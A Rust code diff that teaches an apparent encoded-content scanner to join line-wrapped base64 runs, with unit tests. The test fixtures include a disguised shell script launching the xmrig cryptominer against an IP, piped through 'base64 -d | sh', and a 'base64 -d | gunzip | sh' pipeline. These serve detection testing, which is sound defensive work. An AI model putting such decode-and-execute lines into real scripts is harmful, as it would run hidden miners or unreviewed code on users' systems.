@@ -236,10 +236,74 @@ fn find_runs(text: &str, limits: &Limits) -> Vec<Run> {
             pad += 1;
         }
         i = e;
+        if pad == 0 {
+            if let Some(end) = wrapped_end(b, s, e) {
+                // Base64 wrapped at a fixed width (GNU `base64`: 76): one run over the lines.
+                runs.push(Run {
+                    via: "base64",
+                    range: s..end,
+                });
+                i = end;
+                continue;
+            }
+        }
         word_run(b, s, e - pad, e, limits, &mut runs);
     }
     runs.sort_by_key(|r| r.range.start);
     runs
+}
+
+/// Shortest line width of wrapped base64 that is joined (GNU `base64` wraps at 76, OpenSSL and
+/// PEM at 64).
+const MIN_WRAP_WIDTH: usize = 40;
+/// Most lines of one wrapped base64 run (a longer run is decoded in parts).
+const MAX_WRAP_LINES: usize = 1 << 16;
+
+/// When the standard-base64 line `b[s..e]` (no padding) is the first of a run wrapped at its
+/// width (at least [`MIN_WRAP_WIDTH`], a multiple of 4) and continued on the next line(s), after
+/// a newline and indentation: the end of the whole run (padding included). Every line but the
+/// last has exactly the first line's width; the last is at most as long. Linear, bounded.
+fn wrapped_end(b: &[u8], s: usize, e: usize) -> Option<usize> {
+    let std_b64 = |c: u8| c.is_ascii_alphanumeric() || c == b'+' || c == b'/';
+    let width = e - s;
+    if width < MIN_WRAP_WIDTH || !width.is_multiple_of(4) || !b[s..e].iter().all(|&c| std_b64(c)) {
+        return None;
+    }
+    let mut end = e;
+    let mut lines = 1;
+    loop {
+        // The next line: newline, indentation, then a run that fills the rest of it.
+        let mut k = end;
+        if b.get(k) == Some(&b'\r') {
+            k += 1;
+        }
+        if b.get(k) != Some(&b'\n') {
+            break;
+        }
+        k += 1;
+        while k < b.len() && matches!(b[k], b' ' | b'\t') {
+            k += 1;
+        }
+        let ls = k;
+        while k < b.len() && std_b64(b[k]) {
+            k += 1;
+        }
+        let len = k - ls;
+        let mut pe = k;
+        while pe < b.len() && b[pe] == b'=' && pe - k < 2 {
+            pe += 1;
+        }
+        let line_ends = pe == b.len() || matches!(b[pe], b'\n' | b'\r' | b'"' | b'\'');
+        if len == 0 || len > width || !line_ends || lines >= MAX_WRAP_LINES {
+            break;
+        }
+        end = pe;
+        lines += 1;
+        if len < width || pe > k {
+            break; // the last line
+        }
+    }
+    (lines > 1).then_some(end)
 }
 
 /// A maximal run of base64/hex characters `b[s..body_end]`, padding up to `e`.
@@ -444,7 +508,19 @@ fn decode_run(text: &str, run: &Run, limits: &Limits) -> Option<(String, bool)> 
         }
         "base64" => {
             let body_len = b.iter().position(|&c| c == b'=').unwrap_or(b.len());
-            let body = &b[..body_len];
+            // A wrapped run: the line breaks and indentation dropped (bounded by the cut below).
+            let joined: Vec<u8>;
+            let body = if b[..body_len].iter().any(u8::is_ascii_whitespace) {
+                joined = b[..body_len]
+                    .iter()
+                    .copied()
+                    .filter(|c| !c.is_ascii_whitespace())
+                    .take(max / 3 * 4 + 4)
+                    .collect();
+                &joined[..]
+            } else {
+                &b[..body_len]
+            };
             let max_in = max / 3 * 4;
             let (input, cut) = if body.len() > max_in {
                 (&body[..max_in], true)
@@ -734,5 +810,68 @@ mod tests {
         for t in &odd {
             let _ = decode_layers(&t[..t.len().min(4096)], &tiny);
         }
+    }
+
+    #[test]
+    fn wrapped_base64_is_joined() {
+        let plain = "#!/bin/sh\n# setup helper for the data loader, do not edit\nxmrig -o 203.0.113.99:443 -u rig1 -p x -k -B\n";
+        let enc = STANDARD.encode(plain);
+        let lines: Vec<&str> = enc
+            .as_bytes()
+            .chunks(76)
+            .map(|c| std::str::from_utf8(c).unwrap())
+            .collect();
+        assert!(lines.len() >= 2);
+        for indent in ["", "    ", "\t  "] {
+            let block = lines
+                .iter()
+                .map(|l| format!("{indent}{l}"))
+                .collect::<Vec<_>>()
+                .join("\n");
+            let t = format!("boot.sh: |\n{indent}base64 -d <<'EOF2' | sh\n{block}\n{indent}EOF2\n");
+            let d = layers(&t);
+            assert!(
+                d.layers.iter().any(|l| l.text == plain),
+                "{indent:?}: {d:?}"
+            );
+        }
+        // CRLF line ends too.
+        let t = format!("{}\r\n", lines.join("\r\n"));
+        assert!(layers(&t).layers.iter().any(|l| l.text == plain));
+    }
+
+    #[test]
+    fn unrelated_lines_are_not_joined() {
+        let a = STANDARD.encode("first line of text that is long enough for a run..");
+        let b = STANDARD.encode("second one");
+        // Neither wrapped at a width (different widths, the first not a multiple of 4 or short).
+        let t = format!("{a}=\n{b}");
+        let d = layers(&t);
+        assert!(
+            d.layers
+                .iter()
+                .all(|l| !l.text.contains("second one") || l.text == "second one"),
+            "{d:?}"
+        );
+        // The marker after a short last line stays out.
+        let plain = "echo hello from a wrapped payload that spans two lines of base64 output ok";
+        let enc = STANDARD.encode(plain);
+        let (l1, l2) = enc.split_at(76);
+        let t = format!("{l1}\n{l2}\nEOF2\n");
+        let d = layers(&t);
+        assert!(d.layers.iter().any(|l| l.text == plain), "{d:?}");
+        // Short lines (a list of ids) are never joined.
+        let ids = "QUJDREVGR0hJSktMTU5PUA1\nQUJDREVGR0hJSktMTU5PUA2\n";
+        for l in &layers(ids).layers {
+            assert!(!l.text.contains('\n') || l.range.len() < 30, "{l:?}");
+        }
+    }
+
+    #[test]
+    fn gzip_layers_are_not_inflated() {
+        // flate2 is not in Cargo.lock: a gzip layer is binary and is not kept (documented).
+        let t = "echo H4sIAAZbCGsC/22MQU+DMBhA7/6K727ahrULME80bHhQ4iSZm7cBRaaUr2s/2Pz3zqvxHd9LXjP5AViAnsithFBLnvJIJTxNxdX60wcwBNGaWYTeCvdNPY7yAZreYgv313/SX/M7cIgDD5Nz6Ol25Q3albwBbAKlss3mvPyqToXGd1U+55cDlVGCdZNkxlZS5vrpLcjHGGnfkdx/epfTtpjj6lyFoz7oOk2msvaLndZrirvFpRvl667Y6vWLzICxFscjGTaY2QwQ3f0AFTL8bfIAAAA= | base64 -d | gunzip | sh";
+        let d = layers(t);
+        assert!(d.layers.is_empty(), "{d:?}");
     }
 }
